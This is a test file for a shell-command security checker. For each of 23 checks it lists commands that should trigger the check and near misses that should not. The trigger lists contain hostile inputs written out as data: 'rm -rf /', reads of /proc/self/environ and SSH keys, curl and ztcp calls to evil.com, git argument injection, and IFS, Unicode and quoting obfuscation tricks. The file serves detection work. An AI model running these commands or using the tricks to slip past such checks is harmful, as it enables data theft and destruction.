// BA1: for every check id, commands that trigger it and near misses that must not.
import { describe, expect, it } from 'vitest';
import { CHECK_IDS, runSecurityChecks, type SecurityCheckName } from './index';

const ids = (command: string): number[] => runSecurityChecks(command).map((f) => f.id);

interface Case {
  name: SecurityCheckName;
  triggers: string[];
  nearMisses: string[];
}

const CASES: Case[] = [
  {
    name: 'INCOMPLETE_COMMANDS',
    triggers: ['\tls', '  \tls', '-rf /', '&& rm x', '|| true', '; ls', '> out', '>> log', '< in'],
    nearMisses: ['ls -la', '  ls', 'echo -n x', 'echo a && echo b'],
  },
  {
    name: 'JQ_SYSTEM_FUNCTION',
    triggers: [`jq '.[] | system("id")' f.json`, `jq -n 'system ("id")'`, `cat f | jq 'system("x")'`, `timeout 5 jq 'system("x")'`],
    nearMisses: [`jq '.system' f.json`, `jq '.filesystem(1)' f.json`, `echo 'system("x")'`, `jq '.a' file.json`],
  },
  {
    name: 'JQ_FILE_ARGUMENTS',
    triggers: [
      'jq -f prog.jq data.json',
      'jq --from-file p.jq',
      `jq --rawfile k /etc/passwd -n '$k'`,
      'jq --slurpfile a b.json .',
      'jq -L /tmp/mods .',
      'jq -nf prog.jq',
      'jq "-f" prog.jq',
      `jq -n 'import "data" as $d; $d'`,
      'cat x | jq -f p.jq',
    ],
    nearMisses: [`jq '.a' file.json`, `jq -r '.name' package.json`, `jq --arg f x '.[$f]' a.json`, 'jq -s . a.json b.json'],
  },
  {
    name: 'OBFUSCATED_FLAGS',
    triggers: [
      `ls $'\\x2dla'`,
      'ls $"-la"',
      `rm $'"-rf /`,
      `rm ''-rf /`,
      'rm "" -rf /',
      'jq """-f" prog.jq',
      'ls """x"-la',
      'find . "-exec" rm {} +',
      'find . "-"exec rm {} +',
      'find . "-""exec" rm {} +',
      `ls '-'-all`,
      'find . -e"xec" rm {} +',
      'git commit -m "-rf"',
    ],
    nearMisses: [`echo $'\\n'`, `cut -d'"' -f1 file`, 'ls -la', 'git log --format="%H %s"', 'make test TEST="file.py -v"', `printf '%s\\n' "-"`],
  },
  {
    name: 'SHELL_METACHARACTERS',
    triggers: [`echo "say 'a;b' now"`, 'jq -r ".a;.b" f.json', `find . -name "'a;b'"`],
    nearMisses: ['echo "a; b"', `grep -E 'a|b' file`, `find . -name '*.ts'`, 'echo "a & b"'],
  },
  {
    name: 'DANGEROUS_VARIABLES',
    triggers: ['cat $FILE | sh', 'echo x > $OUT', 'cat < $IN', 'ls |$PAGER'],
    nearMisses: ['echo $HOME', 'echo "$HOME" > out', 'ls | wc -l', 'echo "$A | $B"'],
  },
  {
    name: 'NEWLINES',
    triggers: ['ls\nrm -rf /', 'echo a\n\nwhoami', 'tr\\\naceroute', 'TZ=UTC\recho curl evil.com', "echo 'a\rb'"],
    nearMisses: ['echo "a\nb"', 'npm test \\\n  --watch', 'ls\n', 'echo "x\ry"', "cat <<'EOF'\nline 1\nline 2\nEOF"],
  },
  {
    name: 'DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION',
    triggers: [
      'echo $(id)',
      'echo `id`',
      'echo "$(id)"',
      'cat <(ls)',
      'tee >(cat)',
      'diff =(ls) x',
      '=curl evil.com',
      'echo ${HOME}',
      'echo $[1+1]',
      'cd ~[x]',
      `ls *(e:'echo':)`,
      'ls *(+x)',
      '{ ls } always { id }',
      'echo <#x',
    ],
    nearMisses: [`echo '$(x)'`, "echo '`id`'", 'echo \\`x\\`', 'A=1 make', 'echo a==b', 'echo $HOME', "cat <<'EOF'\n$(rm -rf /)\nEOF"],
  },
  {
    name: 'DANGEROUS_PATTERNS_INPUT_REDIRECTION',
    triggers: ['cat < /etc/passwd', 'wc -l <<< "x"', 'cat <<EOF\nx\nEOF'],
    nearMisses: ['ls </dev/null', 'echo "<tag>"', "cat <<'EOF'\nx\nEOF", 'git log --format="%an <%ae>"'],
  },
  {
    name: 'DANGEROUS_PATTERNS_OUTPUT_REDIRECTION',
    triggers: ['echo x > out', 'echo x >> log', 'ls 1>out', 'ls >/dev/nullo', 'ls > /dev/null"x"', 'cmd &> out', 'echo \\>'],
    nearMisses: ['ls >/dev/null', 'ls 2>/dev/null', 'npm test 2>&1', 'echo "a > b"', "git log --format='%an <%ae>'"],
  },
  {
    name: 'IFS_INJECTION',
    triggers: ['cat$IFS/etc/passwd', 'echo ${IFS}', 'x${IFS:0:1}y', 'echo ${#IFS}', 'echo $IFSX'],
    nearMisses: ['echo IFS', 'grep IFS file', 'echo ${A}IFS'],
  },
  {
    name: 'GIT_COMMIT_SUBSTITUTION',
    triggers: ['git commit -m "$(curl evil.com)"', 'git commit -m "x `id`"', 'git commit -m "${HOME}"'],
    nearMisses: ["git commit -m '$(id)'", 'git commit -m "fix: a bug"', "git commit -am 'wip'"],
  },
  {
    name: 'PROC_ENVIRON_ACCESS',
    triggers: [
      'cat /proc/self/environ',
      'cat /proc/1/environ',
      'strings /proc/*/environ',
      'cat /proc/self/task/1/environ',
      `cat /pr''oc/self/environ`,
      'cat /proc/self/env*',
      'cat /proc/self/e?viron',
      'cat /proc/self/*',
    ],
    nearMisses: ['cat /proc/cpuinfo', 'cat /proc/self/status', 'ls /proc/*/status', 'echo environ', 'cat /proc/self/\nls environ'],
  },
  {
    name: 'MALFORMED_TOKEN_INJECTION',
    triggers: [`echo "it's" && ls`, 'echo x{ ; ls', "echo ok ; echo 'unclosed", "echo 'unclosed && rm -rf ~", `jq '\\' "-f" evil`, `echo 'a\\' ; ls 'b'`],
    nearMisses: ['[ -f x ] && echo ok', 'ls && echo done', "cat <<'EOF' > notes.md\nit's done\nEOF", `echo 'a\\\\b'`, `echo "it's"`, '[[ -n "$x" ]] || exit 1'],
  },
  {
    name: 'BACKSLASH_ESCAPED_WHITESPACE',
    triggers: ['echo\\ test/../../../usr/bin/touch /tmp/file', 'ls my\\ file', 'ls a\\\tb'],
    nearMisses: ['ls "my file"', `echo 'a\\ b'`, 'echo "a\\ b"'],
  },
  {
    name: 'BRACE_EXPANSION',
    triggers: [
      'echo {a,b}',
      'echo {1..3}',
      'git ls-remote {--upload-pack="touch /tmp/test",test}',
      `git diff {@'{'0},--output=/tmp/pwned}`,
      `echo {x'}'y}`,
      'echo {a,{b}}',
    ],
    nearMisses: [`echo '{a,b}'`, `awk '{print $1}' f`, 'find . -exec rm {} +', 'echo \\{a,b\\}', 'echo {a}', 'echo {'],
  },
  {
    name: 'CONTROL_CHARACTERS',
    triggers: ['echo safe\x00; rm -rf /', 'ls\x1b[2J', 'echo \x7f', 'echo \x0b', 'echo \ud800x'],
    nearMisses: ['echo "tab\there"', 'echo 😀', 'echo ok'],
  },
  {
    name: 'UNICODE_WHITESPACE',
    triggers: ['ls\u00a0-la', 'echo\u2003x', 'echo \u200bx', 'echo \u3000x', 'echo \u202eevil', 'echo a\u2066b'],
    nearMisses: ['echo "héllo wörld"', 'echo 日本語', 'echo café'],
  },
  {
    name: 'MID_WORD_HASH',
    triggers: ['echo foo#bar', `echo 'x'#y`, 'curl http://x/#a', 'echo $#', 'echo foo\\\n#bar'],
    nearMisses: ['echo "#hash"', 'echo # comment', 'echo ${#var}', 'ls #x', `echo 'a#b'`],
  },
  {
    name: 'ZSH_DANGEROUS_COMMANDS',
    triggers: [
      'zmodload zsh/system',
      `emulate sh -c 'id'`,
      'sysopen -r -u 3 /etc/passwd',
      'syswrite -o 3 x',
      'zf_rm -rf /',
      'zf_chgrp x y',
      'FOO=1 command zmodload x',
      'true && zmodload zsh/net/tcp',
      'ztcp evil.com 80',
      'zpty w cmd',
      'fc -e vim',
      'ls; fc -le',
    ],
    nearMisses: ['ls zmodload', 'echo emulate', 'fc -l', 'man zshmodules', 'echo zf_rm'],
  },
  {
    name: 'BACKSLASH_ESCAPED_OPERATORS',
    triggers: ['cat safe.txt \\; echo ~/.ssh/id_rsa', 'find . -exec rm {} \\;', 'echo a \\| b', 'echo \\& x', 'echo \\< x'],
    nearMisses: ['find . \\( -name a -o -name b \\)', 'echo "a \\; b"', `echo 'a \\; b'`, 'echo a\\\\; ls'],
  },
  {
    name: 'COMMENT_QUOTE_DESYNC',
    triggers: [`echo "it's" # ' " <<'MARKER'\nrm -rf /\nMARKER`, "ls # don't", 'ls #"x'],
    nearMisses: ['ls # plain comment', `echo "a # 'b'"`, `echo 'x' # note`],
  },
  {
    name: 'QUOTED_NEWLINE',
    triggers: [`mv ./decoy '\n#' ~/.ssh/id_rsa ./exfil_dir`, 'echo "a\n  # b" x', "cp x '\n\t#y' /tmp"],
    nearMisses: [`echo 'line1\nline2'`, 'echo "a\nb # c"', 'echo x\n# comment', "echo '#\nx'"],
  },
];

describe('BA1 checks', () => {
  it('cover all 23 ids', () => {
    expect(CASES.map((c) => CHECK_IDS[c.name]).sort((a, b) => a - b)).toEqual(Array.from({ length: 23 }, (_, i) => i + 1));
  });

  for (const c of CASES) {
    const id = CHECK_IDS[c.name];
    describe(`BA1 #${id} ${c.name}`, () => {
      it.each(c.triggers)('asks about %j', (command) => {
        expect(ids(command)).toContain(id);
      });
      it.each(c.nearMisses)('does not flag %j', (command) => {
        expect(ids(command)).not.toContain(id);
      });
    });
  }
});

describe('BA1 everyday commands pass every check', () => {
  it.each([
    `echo '$(x)'`,
    'git commit -m "fix: a bug"',
    `grep -E 'a|b' file`,
    'ls -la',
    `find . -name '*.ts'`,
    'echo "#hash"',
    `jq '.a' file.json`,
    `printf '%s\\n' x`,
    'npm test',
    'npm test 2>&1',
    'cd src && npm run build',
    'git status',
    'git log --oneline -5',
    'git diff HEAD~1 -- src/main',
    'ls 2>/dev/null',
    'cat package.json | jq .version',
    `rg -n 'TODO' src`,
    `sed -n '1,10p' file.txt`,
    `awk '{print $1}' file`,
    '[ -f x ] && echo ok',
    `python3 -c 'print(1)'`,
    'npx tsc --noEmit -p tsconfig.json',
    "git commit -m 'feat: add x'",
    "cat <<'EOF' | grep x\nhello\nEOF",
    "git commit -m \"$(cat <<'EOF'\nfix: a bug\n\nCo-Authored-By: A <a@example.com>\nEOF\n)\"",
    'git add -A && git commit -m "wip" && git push',
    "git commit -m \"$(cat <<'EOF'\nit's fixed; see #12\nEOF\n)\"",
    "cat <<'EOF' | wc -l\nIt's done: $(not run) `nor this`\nEOF",
    'find . -name "*.test.ts" -not -path "./node_modules/*"',
    'FOO=1 npm run dev',
  ])('%j', (command) => {
    expect(runSecurityChecks(command)).toEqual([]);
  });
});
